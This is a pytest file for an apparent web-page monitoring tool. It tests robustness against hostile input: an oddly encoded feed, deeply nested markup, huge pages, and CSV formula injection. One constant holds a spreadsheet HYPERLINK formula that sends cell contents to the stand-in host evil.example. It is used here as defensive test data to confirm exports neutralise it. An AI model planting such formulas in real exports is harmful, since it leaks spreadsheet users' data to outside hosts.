"""Hostile content: bytes that break parsers, or cost time, end as an error on their source (or
are read), never as a crash of the run or a frozen service."""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

import httpx

from tests.faults.conftest import cli, config_with
from tests.sitesrv import FixtureSite, Response

HTML = {"Content-Type": "text/html; charset=utf-8"}
SHIFT_JIS_FEED = (
    '<?xml version="1.0" encoding="Shift_JIS"?><rss version="2.0"><channel><title>t</title>'
    "<item><title>AI guidance</title><link>https://example.org/a</link></item></channel></rss>"
).encode("shift_jis")


def outcomes_of(tmp_path: Path, site: FixtureSite, entry: str) -> dict[str, dict[str, object]]:
    config = config_with(tmp_path, site, entry)
    result = cli(config, tmp_path / "obs.db", "check", "--format", "json")
    assert "Traceback" not in result.output
    outcomes = {r["source"]: r for r in json.loads(result.stdout)}
    assert {outcomes[s]["outcome"] for s in ("good-page", "good-feed", "good-act")} == {"new"}
    return outcomes


def test_a_feed_in_an_encoding_the_xml_parser_lacks_stops_nothing(
    tmp_path: Path, site: FixtureSite
) -> None:
    site.routes["/sjis.xml"] = lambda _h: Response(
        200, SHIFT_JIS_FEED, {"Content-Type": "text/xml"}
    )
    outcomes = outcomes_of(tmp_path, site, '{id: sjis, url: "$B/sjis.xml", kind: feed}')
    # feedparser reads what expat cannot: a result, not a crash of the run
    assert outcomes["sjis"]["outcome"] in ("new", "error")


def test_deeply_nested_markup_stops_nothing(tmp_path: Path, site: FixtureSite) -> None:
    body = ("<html><body>" + "<div>" * 5000 + "<p>deep</p>" + "</div>" * 5000).encode()
    site.routes["/deep.html"] = lambda _h: Response(200, body, HTML)
    outcomes = outcomes_of(tmp_path, site, '{id: deep, url: "$B/deep.html"}')
    assert outcomes["deep"]["outcome"] in ("new", "error")


def test_one_word_changed_in_a_ten_megabyte_paragraph_is_found(
    tmp_path: Path, site: FixtureSite
) -> None:
    words = [f"w{i % 977} t{i}" for i in range(600_000)]  # about 10 MB, one paragraph
    versions = {"now": " ".join(words)}
    site.routes["/huge.html"] = lambda _h: Response(
        200, f"<html><body><main><p>{versions['now']}</p></main></body></html>".encode(), HTML
    )
    config = config_with(tmp_path, site, '{id: huge, url: "$B/huge.html", select: main}')
    db = tmp_path / "obs.db"
    assert cli(config, db, "check", "huge").exit_code == 0
    words[300_000] = "CHANGED"
    versions["now"] = " ".join(words)
    result = cli(config, db, "check", "huge", "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)[0]["outcome"] == "changed"
    (change,) = json.loads(cli(config, db, "changes", "--format", "json").stdout)
    assert ["+", "CHANGED"] in change["diff"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _formula_page_edited(
    tmp_path: Path, site: FixtureSite, before: str, after: str
) -> tuple[Path, Path]:
    """(config, database) after two checks of a page headed by FORMULA whose paragraph went
    from *before* to *after*."""
    pages = {"now": f"<html><body><main><h2>{FORMULA}</h2><p>{before}</p></main></body></html>"}
    site.routes["/f.html"] = lambda _h: Response(200, pages["now"].encode(), HTML)
    config = config_with(tmp_path, site, '{id: formula, url: "$B/f.html", select: main}')
    db = tmp_path / "obs.db"
    cli(config, db, "check", "formula")
    pages["now"] = pages["now"].replace(f"<p>{before}</p>", f"<p>{after}</p>")
    cli(config, db, "check", "formula")
    return config, db


def test_formula_text_is_neutralised_in_cli_and_api_csv(tmp_path: Path, site: FixtureSite) -> None:
    config, db = _formula_page_edited(tmp_path, site, "+1 intro", "-2 intro")
    exported = cli(config, db, "changes", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows, exported
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(cell.startswith("'=") or cell.startswith("'-") for r in rows for cell in r.values())


def test_formula_text_is_neutralised_in_the_api_csv(tmp_path: Path, site: FixtureSite) -> None:
    from observatory.config import load_config
    from observatory.store.db import open_db
    from observatory.web import create_app
    from tests.fixtures.web.world import serving

    config, db = _formula_page_edited(tmp_path, site, "x", f"@SUM(1+1) {time.time()}")
    app = create_app(load_config(config), open_db(str(db)))
    with serving(app) as base:
        exported = httpx.get(f"{base}/api/changes.csv", timeout=10).text
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows and rows[0]["location"].startswith("'=HYPERLINK"), rows  # shown, never run
    assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())


def test_health_answers_within_a_second_throughout_a_ten_megabyte_poll(
    tmp_path: Path, site: FixtureSite
) -> None:
    """Under `observatory run`, a huge page is read and diffed off the event loop: /healthz and
    the web views keep answering, and a failing source is reported meanwhile."""
    from tests.service.test_run import ServiceProcess

    words = [f"w{i % 977} t{i}" for i in range(600_000)]
    versions = {"now": " ".join(words)}
    site.routes["/huge.html"] = lambda _h: Response(
        200, f"<html><body><main><p>{versions['now']}</p></main></body></html>".encode(), HTML
    )
    site.routes["/down.html"] = lambda _h: Response(500, b"down", HTML)
    config = tmp_path / "sources.yaml"
    config.write_text(
        "sources:\n"
        f'  - {{id: huge, url: "{site.base_url}/huge.html", select: main, every: 3s}}\n'
        f'  - {{id: down, url: "{site.base_url.replace("127.0.0.1", "localhost")}/down.html",'
        " every: 1h}\n"
        "settings: {per_host_delay: 0, retries: 0, timeout: 20, recheck_on_change: false}\n",
        encoding="utf-8",
    )
    service = ServiceProcess(tmp_path, config, tmp_path / "obs.db").start()
    try:
        service.wait_for(r"poll huge new", timeout=60)
        words[300_000] = "CHANGED"
        versions["now"] = " ".join(words)
        slowest, failing = 0.0, set()
        deadline = time.monotonic() + 90
        while "poll huge changed" not in service.log:
            assert time.monotonic() < deadline, service.log
            started = time.monotonic()
            body = httpx.get(f"http://127.0.0.1:{service.port}/healthz", timeout=5).json()
            slowest = max(slowest, time.monotonic() - started)
            failing |= set(body["failing_sources"])
            time.sleep(0.05)
        assert slowest < 1.0, f"/healthz took {slowest:.2f} s during the poll"
        assert "down" in failing
    finally:
        service.stop()
